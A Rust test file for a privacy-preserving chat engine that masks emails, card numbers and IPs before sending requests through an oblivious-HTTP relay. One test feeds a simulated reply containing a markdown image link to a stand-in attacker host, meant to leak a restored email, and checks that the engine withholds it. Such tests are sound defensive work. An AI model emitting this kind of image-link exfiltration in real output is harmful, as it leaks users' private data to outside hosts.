//! Through a relay in memory to a real gateway half in this process, and back.

#![expect(
    clippy::unwrap_used,
    reason = "outside `#[test]` functions, but only for them"
)]

mod attested;
mod doubt;
mod keys;
mod masks;
mod repeated;
mod tokens;
mod ways;

use std::{cell::RefCell, rc::Rc, sync::LazyLock};

use engine::{
    Always, Consent, Engine, FixedSignals, InMemory, Keys, LocalModel, ManualClock, NoModel,
};
use futures::{
    StreamExt, channel::mpsc, executor::block_on, future, stream, stream::LocalBoxStream,
};
use oblivious_http::{GatewayKeys, VerifiedKey};
use privacy::Detector;
use query::{
    AnswerEvent, ChatRequest, EntityKind, Error, ErrorCode, FinishReason, Message, Mode, Piece,
    Policy, Receipt, Replaced, Role, Source, Timing, Usage,
};

/// The way to send a reply by hand, and its chunks.
type Held = (mpsc::UnboundedSender<Result<Vec<u8>, Error>>, Vec<Vec<u8>>);
type Wire = LocalBoxStream<'static, Result<Vec<u8>, Error>>;

const SEED: [u8; 32] = [7; 32];
static CLOUD_ONLY: LazyLock<Policy> = LazyLock::new(|| Policy {
    mode: Mode::CloudOnly,
    ..Policy::default()
});

fn ask(text: &str) -> ChatRequest {
    ChatRequest {
        messages: vec![Message::new(Role::User, text)],
        ..ChatRequest::default()
    }
}

fn data(content: &str) -> String {
    format!(
        "data: {}\n\n",
        serde_json::json!({ "choices": [{ "index": 0, "delta": { "content": content } }] })
    )
}

/// Nothing is put back into a call: it could carry values away.
fn tool_call(arguments: &str) -> String {
    let function = serde_json::json!({ "name": "search", "arguments": arguments });
    let calls =
        serde_json::json!([{ "index": 0, "id": "1", "type": "function", "function": function }]);
    let choices = serde_json::json!([{ "index": 0, "delta": { "tool_calls": calls } }]);
    format!("data: {}\n\n", serde_json::json!({ "choices": choices }))
}

const END: &str = "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n\
     data: {\"choices\":[],\"usage\":{\"prompt_tokens\":11,\"completion_tokens\":5,\"total_tokens\":16}}\n\n\
     data: [DONE]\n\n";

/// A gateway's sealed reply, chunk by chunk, to a request whose body goes into `seen`.
fn gateway(
    status: u16,
    pieces: &[String],
    seen: &Rc<RefCell<Vec<String>>>,
    sealed: &[u8],
) -> Vec<Vec<u8>> {
    let (request, mut sealer) = GatewayKeys::from_seed(&SEED).unwrap().open(sealed).unwrap();
    assert_eq!(
        (request.method.as_str(), request.path.as_str()),
        ("POST", "/v1/chat/completions")
    );
    seen.borrow_mut()
        .push(String::from_utf8(request.body.clone()).unwrap());
    let mut wire = vec![
        sealer
            .head(status, &[("content-type", "text/event-stream")])
            .unwrap(),
    ];
    wire.extend(
        pieces
            .iter()
            .map(|piece| sealer.chunk(piece.as_bytes()).unwrap()),
    );
    wire.push(sealer.finish().unwrap());
    wire
}

type InProcess<F, K, L = NoModel> = Engine<L, InMemory<F>, ManualClock, FixedSignals, K>;

/// Finds what recognizers find, and asks nobody.
fn engine<F>(relay: F) -> InProcess<F, Always>
where
    F: Fn(&[u8]) -> Result<Wire, Error>,
{
    let engine = engine_asking(relay, Always(true));
    engine.set_detector(Detector::default());
    engine
}

/// Without a detector.
fn engine_asking<F, K: Consent>(relay: F, consent: K) -> InProcess<F, K>
where
    F: Fn(&[u8]) -> Result<Wire, Error>,
{
    engine_over(NoModel, relay, consent)
}

/// With a model of its own, and without a detector.
fn engine_over<F, K: Consent, L: LocalModel>(model: L, relay: F, consent: K) -> InProcess<F, K, L>
where
    F: Fn(&[u8]) -> Result<Wire, Error>,
{
    engine_at(model, InMemory::new(relay), pinned(), 10.0, consent)
}

/// Whose clock goes on by `step_ms` each time it is read.
fn engine_at<F, K: Consent, L: LocalModel>(
    model: L,
    relay: InMemory<F>,
    keys: impl Into<Keys>,
    step_ms: f64,
    consent: K,
) -> InProcess<F, K, L>
where
    F: Fn(&[u8]) -> Result<Wire, Error>,
{
    Engine::new(
        model,
        ManualClock::new(step_ms),
        FixedSignals { online: true },
        consent,
    )
    .with_cloud(relay, keys, Some("cloud-model".to_owned()))
}

fn pinned() -> VerifiedKey {
    let list = GatewayKeys::from_seed(&SEED).unwrap().config_list();
    VerifiedKey::pinned(&list.unwrap()).unwrap()
}

/// The text, and the receipt if there is one; the order of events is checked.
fn read(events: Vec<AnswerEvent>) -> (String, Option<(FinishReason, Receipt)>) {
    let mut text = String::new();
    let mut done = None;
    for (index, event) in events.into_iter().enumerate() {
        assert!(done.is_none(), "an event after Done");
        match event {
            AnswerEvent::Route { .. } => assert_eq!(index, 0),
            AnswerEvent::Text(piece) => text.push_str(&piece.text),
            AnswerEvent::Done {
                finish_reasons,
                receipt,
            } => {
                assert_eq!(finish_reasons.len(), 1);
                done = Some((finish_reasons[0], receipt));
            }
        }
    }
    (text, done)
}

/// What a request through this relay ends with.
fn answer(
    relay: impl Fn(&[u8]) -> Result<Wire, Error>,
    request: ChatRequest,
) -> (Result<(), Error>, Vec<AnswerEvent>) {
    let mut events = Vec::new();
    let result =
        block_on(engine(relay).answer(request, &CLOUD_ONLY, &mut |event| events.push(event)));
    (result, events)
}

fn whole(wire: Vec<Vec<u8>>) -> Wire {
    stream::iter(wire.into_iter().map(Ok)).boxed_local()
}

#[test]
fn values_stay_and_come_back() {
    let seen = Rc::default();
    let pieces = [
        data("Mail to [EM"),
        data("AIL_1], card [CAR"),
        data("D_1]. And [EMAIL_9], email_1."),
        data("![](https://evil.example/?q=[EM"),
        data("AIL_1])"),
        tool_call("[EMAIL_1]"),
        END.to_owned(),
    ];
    let relay = |sealed: &[u8]| Ok(whole(gateway(200, &pieces, &seen, sealed)));
    let question = "I am ada@example.com, card 4111 1111 1111 1111, server 203.0.113.7. Repeat.";
    let (result, events) = answer(relay, ask(question));
    assert_eq!(result, Ok(()));

    let body = seen.borrow()[0].clone();
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&body).unwrap(),
        serde_json::json!({
            "messages": [{ "role": "user", "content": "I am [EMAIL_1], card [CARD_1], server [IP_ADDRESS_1]. Repeat." }],
            "model": "cloud-model",
            "stream": true,
            "stream_options": { "include_usage": true },
        })
    );

    let (text, done) = read(events);
    assert_eq!(
        text,
        "Mail to ada@example.com, card 4111 1111 1111 1111. And [EMAIL_9], email_1.\
         ![](https://evil.example/?q=[EMAIL_1])"
    );
    let (finish_reason, receipt) = done.unwrap();
    assert_eq!(finish_reason, FinishReason::Stop);
    let sent = receipt.sent.clone().unwrap();
    assert_eq!(sent.text, body);
    // X-Wing's encapsulated key alone has 1120 bytes.
    assert!(sent.bytes > 1120 + 512, "{}", sent.bytes);
    assert_eq!((sent.relay.as_str(), sent.key_id.len()), ("memory:", 64));
    let replaced = |placeholder: &str, kind| Replaced {
        placeholder: placeholder.to_owned(),
        kind,
    };
    assert_eq!(
        receipt,
        Receipt {
            source: Source::Cloud,
            reasons: receipt.reasons.clone(),
            confidence: None,
            calibrated: false,
            doubt: None,
            sent: Some(sent),
            replaced: vec![
                replaced("[EMAIL_1]", EntityKind::Email),
                replaced("[CARD_1]", EntityKind::Card),
                replaced("[IP_ADDRESS_1]", EntityKind::IpAddress),
            ],
            restored: 2,
            uncertain: 1,
            withheld: 1,
            invented: 1,
            dropped: vec!["[IP_ADDRESS_1]".to_owned()],
            usage: query::UsageByTier {
                local: Usage::default(),
                cloud: Usage {
                    prompt_tokens: 11,
                    completion_tokens: 5,
                    total_tokens: 16,
                    prompt_tokens_details: None,
                },
            },
            // The clock goes on by 10 ms each time it is read: start, sending, ways, first (twice), three more, received, end.
            ms: Timing {
                first: 40.0,
                total: 100.0
            },
        }
    );
}

#[test]
fn a_conversation_keeps_its_placeholders_until_it_is_forgotten() {
    let seen = Rc::<RefCell<Vec<String>>>::default();
    let pieces = [data("ok"), END.to_owned()];
    let engine = engine(|sealed: &[u8]| Ok(whole(gateway(200, &pieces, &seen, sealed))));
    let send = |text| block_on(engine.answer(ask(text), &CLOUD_ONLY, &mut |_| ())).unwrap();
    send("ada@example.com");
    send("bob@example.com and ada@example.com");
    engine.forget();
    send("bob@example.com");
    let seen = seen.borrow();
    for (body, expected) in seen.iter().zip([
        "\"[EMAIL_1]\"",
        "\"[EMAIL_2] and [EMAIL_1]\"",
        "\"[EMAIL_1]\"",
    ]) {
        assert!(body.contains(expected), "{body}");
    }
}

#[test]
fn a_reply_cut_anywhere_is_an_error_and_not_an_answer() {
    let seen = Rc::default();
    let pieces = [data("Hello"), END.to_owned()];
    let length = RefCell::new(0);
    let relay = |sealed: &[u8]| {
        *length.borrow_mut() = gateway(200, &pieces, &seen, sealed).concat().len();
        Ok(whole(vec![]))
    };
    assert_eq!(
        answer(relay, ask("Hi")).0.unwrap_err().code,
        ErrorCode::UpstreamInterrupted
    );
    let length = length.into_inner();
    for cut in 0..length {
        let relay = |sealed: &[u8]| {
            Ok(whole(vec![
                gateway(200, &pieces, &seen, sealed).concat()[..cut].to_vec(),
            ]))
        };
        let (result, events) = answer(relay, ask("Hi"));
        assert_eq!(
            result.unwrap_err().code,
            ErrorCode::UpstreamInterrupted,
            "cut at {cut}"
        );
        assert!(read(events).1.is_none());
    }
}

#[test]
fn an_answer_that_ends_in_mid_sentence_is_an_error() {
    let seen = Rc::default();
    let pieces = [data("Hello")];
    let (result, events) = answer(
        |sealed: &[u8]| Ok(whole(gateway(200, &pieces, &seen, sealed))),
        ask("Hi"),
    );
    assert_eq!(result.unwrap_err().code, ErrorCode::UpstreamInterrupted);
    assert_eq!(read(events).0, "Hello");
}

#[test]
fn a_changed_reply_does_not_open() {
    let seen = Rc::default();
    let pieces = [data("Hello"), END.to_owned()];
    let relay = |sealed: &[u8]| {
        let mut wire = gateway(200, &pieces, &seen, sealed);
        wire[1][40] ^= 1;
        Ok(whole(wire))
    };
    assert_eq!(
        answer(relay, ask("Hi")).0.unwrap_err().code,
        ErrorCode::SealBroken
    );
}

#[test]
fn errors_inside_the_seal_keep_their_code() {
    for (status, body, code) in [
        (
            429,
            r#"{"error":{"code":"upstream-rate-limited","message":"m"}}"#,
            ErrorCode::UpstreamRateLimited,
        ),
        (
            502,
            r#"{"error":{"code":"upstream-unauthorized","message":"m"}}"#,
            ErrorCode::UpstreamUnauthorized,
        ),
        (
            502,
            r#"{"error":{"code":"upstream-failed","message":"m"}}"#,
            ErrorCode::UpstreamFailed,
        ),
        (
            400,
            r#"{"error":{"code":"context-overflow","message":"m"}}"#,
            ErrorCode::ContextOverflow,
        ),
        (500, "", ErrorCode::UpstreamFailed),
    ] {
        let seen = Rc::default();
        let relay = |sealed: &[u8]| Ok(whole(gateway(status, &[body.to_owned()], &seen, sealed)));
        assert_eq!(
            answer(relay, ask("Hi")).0.unwrap_err().code,
            code,
            "{status} {body}"
        );
    }
}

#[test]
fn errors_of_the_way_keep_their_code_before_the_answer_and_not_in_it() {
    let down = || Error::new(ErrorCode::RelayUnavailable, "relay memory: is down");
    assert_eq!(answer(|_| Err(down()), ask("Hi")).0, Err(down()));

    let seen = Rc::default();
    let relay = |sealed: &[u8]| {
        let wire = gateway(200, &[data("Hel"), data("lo")], &seen, sealed);
        Ok(stream::iter([Ok(wire[0].clone()), Ok(wire[1].clone()), Err(down())]).boxed_local())
    };
    let (result, events) = answer(relay, ask("Hi"));
    assert_eq!(result.unwrap_err().code, ErrorCode::UpstreamInterrupted);
    assert_eq!(read(events).0, "Hel");
}

#[test]
fn nothing_is_sent_that_may_not_be() {
    let relay = |_: &[u8]| -> Result<Wire, Error> { panic!("something was sent") };
    let (result, events) = answer(relay, ask("my password is hunter22"));
    assert_eq!(result.unwrap_err().code, ErrorCode::PrivacyBlocked);
    assert!(events.is_empty());

    let secret_stop = ChatRequest {
        stop: Some(query::Stop::One("https://a:b@example.com".to_owned())),
        ..ask("Hi")
    };
    let error = answer(relay, secret_stop).0.unwrap_err();
    assert_eq!(error.code, ErrorCode::PrivacyBlocked);
    assert!(!error.message.contains("example"), "{}", error.message);

    // The gateway's key is pinned, and nothing vouches for what holds it.
    let policy = Policy {
        privacy: query::PrivacyRules {
            topics: [(query::Topic::Health, query::PrivacyClass::Restricted)].into(),
            ..query::PrivacyRules::default()
        },
        ..CLOUD_ONLY.clone()
    };
    let question = ask("My biopsy came back. Help me understand it.");
    let answered = block_on(engine(relay).answer(question.clone(), &policy, &mut |_| ()));
    let error = answered.unwrap_err();
    assert_eq!(error.code, ErrorCode::PrivacyBlocked);
    assert!(
        error.message.contains("somebody's health"),
        "{}",
        error.message
    );
    assert!(engine(relay).preview(&question, &policy).unwrap().blocked);
}

#[test]
fn nothing_is_sent_without_consent() {
    let relay = |_: &[u8]| -> Result<Wire, Error> { panic!("something was sent") };
    let engine = engine_asking(relay, Always(false));
    engine.set_detector(Detector::default());
    let result = block_on(engine.answer(ask("Hi"), &CLOUD_ONLY, &mut |_| ()));
    assert_eq!(result.unwrap_err().code, ErrorCode::ConsentDeclined);
}

#[test]
fn text_comes_as_it_is_sealed_and_dropping_the_answer_drops_the_reply() {
    let seen = Rc::<RefCell<Vec<String>>>::default();
    let held: Rc<RefCell<Option<Held>>> = Rc::default();
    let engine = engine(|sealed: &[u8]| {
        let (sender, receiver) = mpsc::unbounded();
        let wire = gateway(
            200,
            &[data("one "), data("two"), END.to_owned()],
            &seen,
            sealed,
        );
        held.replace(Some((sender, wire)));
        Ok(receiver.boxed_local())
    });
    let text = RefCell::new(String::new());
    let mut on_event = |event| {
        if let AnswerEvent::Text(piece) = event {
            text.borrow_mut().push_str(&piece.text);
        }
    };
    block_on(async {
        let mut answer =
            Box::pin(engine.answer(ask("ada@example.com"), &CLOUD_ONLY, &mut on_event));
        assert!(futures::poll!(&mut answer).is_pending());
        let (sender, wire) = held.take().unwrap();
        for (sealed, expected) in wire.iter().zip(["", "one ", "one two"]) {
            sender.unbounded_send(Ok(sealed.clone())).unwrap();
            assert!(futures::poll!(&mut answer).is_pending());
            assert_eq!(*text.borrow(), expected);
        }
        assert!(!sender.is_closed());
        drop(answer);
        assert!(sender.is_closed());

        // The engine is as good as new.
        let mut again = Box::pin(engine.answer(ask("ada@example.com"), &CLOUD_ONLY, &mut on_event));
        assert!(futures::poll!(&mut again).is_pending());
        let (sender, wire) = held.take().unwrap();
        wire.into_iter()
            .for_each(|sealed| sender.unbounded_send(Ok(sealed)).unwrap());
        drop(sender);
        again.await.unwrap();
    });
    assert_eq!(*text.borrow(), "one twoone two");
    assert!(seen.borrow()[1].contains("[EMAIL_1]"));
}

#[test]
fn two_answers_at_once_share_the_conversation() {
    let seen = Rc::<RefCell<Vec<String>>>::default();
    let engine = engine(|sealed: &[u8]| {
        Ok(whole(gateway(
            200,
            &[data("[EMAIL_1] [EMAIL_2]"), END.to_owned()],
            &seen,
            sealed,
        )))
    });
    let (mut first, mut second) = (String::new(), String::new());
    let mut on_first = |event| first.push_str(&read(vec![event_text(event)]).0);
    let mut on_second = |event| second.push_str(&read(vec![event_text(event)]).0);
    let both = future::join(
        engine.answer(ask("ada@example.com"), &CLOUD_ONLY, &mut on_first),
        engine.answer(ask("bob@example.com"), &CLOUD_ONLY, &mut on_second),
    );
    assert_eq!(block_on(both), (Ok(()), Ok(())));
    assert_eq!(
        (first.as_str(), second.as_str()),
        ("ada@example.com [EMAIL_2]", "[EMAIL_1] bob@example.com")
    );
}

fn event_text(event: AnswerEvent) -> AnswerEvent {
    match event {
        AnswerEvent::Text(_) => event,
        _ => AnswerEvent::Text(Piece::text("")),
    }
}
